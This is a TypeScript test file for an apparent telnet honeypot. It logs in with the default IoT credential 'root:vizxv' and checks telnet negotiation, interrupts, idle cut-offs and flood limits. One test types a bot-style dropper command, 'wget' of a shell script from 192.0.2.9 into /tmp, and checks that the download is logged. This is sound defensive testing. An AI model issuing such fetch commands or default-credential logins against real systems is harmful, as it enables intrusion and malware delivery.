import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { type Visit, type VisitOptions, visit } from './testing.ts'

const refusals =
  '\xff\xfe%\xff\xfe&\xff\xfc\x18\xff\xfc \xff\xfc#\xff\xfc\'\xff\xfc$\xff\xfc\x01\xff\xfc"\xff\xfb\x1f\xff\xfa\x1f\0P\0\x18\xff\xf0\xff\xfc!'
const atPrompt = (heard: string) => heard.endsWith(':~# ')
const told = (events: Visit['events'], name: string) =>
  events.filter(event => event.name === name).map(event => event.details as Record<string, unknown>)

/** Somebody who is logged in as root. */
async function loggedIn(how: VisitOptions = {}): Promise<Visit> {
  const options = { access: { rules: ['root:vizxv'] }, ...(how.options as object) }
  const there = visit({ ...how, options })
  there.type(`${refusals}root\r\nvizxv\r\n`)
  assert.ok(atPrompt(await there.until(atPrompt)), there.heard())
  return there
}

describe('the terminal between telnetd and the shell', () => {
  test('window sizes are told of, and reach the programs', async () => {
    const { type, until, events, leave } = await loggedIn()
    type('\xff\xfa\x1f\0\x84\0\x2b\xff\xf0stty size\r\n')
    await until(heard => heard.includes('\n43 132\r\n'))
    assert.deepEqual(told(events, 'terminal'), [
      { type: 'network', columns: 80, rows: 24 },
      { columns: 132, rows: 43 },
    ])
    leave()
  })

  test('an interrupt gets through to what runs, past lines that wait for it to end', async () => {
    const { type, until, leave } = await loggedIn()
    type('sleep 600\r\n')
    await until(heard => heard.endsWith('sleep 600\r\n'))
    type('echo la""ter\r\n')
    type('\x03')
    assert.ok(atPrompt(await until(heard => /\^C\r\n.*# $/.test(heard))))
    type('\xff\xf6echo af""ter\r\n')
    const heard = await until(all => all.includes('after\r\n'))
    assert.match(heard, /\r\n\[Yes\]\r\n/)
    leave()
  })

  test('IAC IP whose data mark came as urgent data, which is kept from us', async () => {
    const { type, until, leave } = await loggedIn()
    type('sleep 600\r\n')
    await until(heard => heard.endsWith('sleep 600\r\n'))
    // IAC IP, IAC DM without its last byte, and what was typed next.
    type('\xff\xf4\xffecho af""ter\r\n')
    assert.match(await until(heard => heard.includes('after\r\n')), /\^C[\s\S]*\nafter\r\n/)
    leave()
  })

  test('what was typed before the peer went is done all the same', async () => {
    const { type, session, leave, events } = await loggedIn()
    type('cd /tmp\r\nwget -q http://192.0.2.9/last.sh\r\n')
    leave()
    await session.catch(() => {})
    assert.deepEqual(
      told(events, 'fileDownload').map(({ url }) => url),
      ['http://192.0.2.9/last.sh'],
    )
  })

  test('who says nothing any more is cut off, and not before', async () => {
    let now = 1_000_000
    const { conn, session, heard } = await loggedIn({ options: { idle: 100 }, now: () => now })
    now += 90_000
    conn.expire(now)
    assert.equal(conn.over, undefined)
    now += 20_000
    conn.expire(now)
    await assert.rejects(session, { reason: 'idle' })
    assert.ok(atPrompt(heard()))
  })

  test('more than a terminal holds waits outside', async () => {
    const { type, until, conn, leave } = await loggedIn()
    type('sleep 600\r\n')
    await until(heard => heard.endsWith('sleep 600\r\n'))
    for (let i = 0; i < 64; i++) type(`${'x'.repeat(98)}\r\n`.repeat(655))
    await new Promise(resolve => setTimeout(resolve, 300))
    // Not all of four megabytes was taken.
    assert.ok(conn.received < 2 << 20, String(conn.received))
    conn.hangup('reset')
    leave()
  })

  test('octets come through as they are, each IAC twice, and stay so in a file', async () => {
    const { type, until, leave } = await loggedIn()
    type(`printf '\\377\\376\\r' >f; od -An -tx1 f; cat f; echo e""nd\r\n`)
    const heard = await until(all => all.includes('end\r\n'))
    assert.match(heard, / ff fe 0d\r\n\xff\xff\xfe\r\0end\r\n/)
    leave()
  })
})
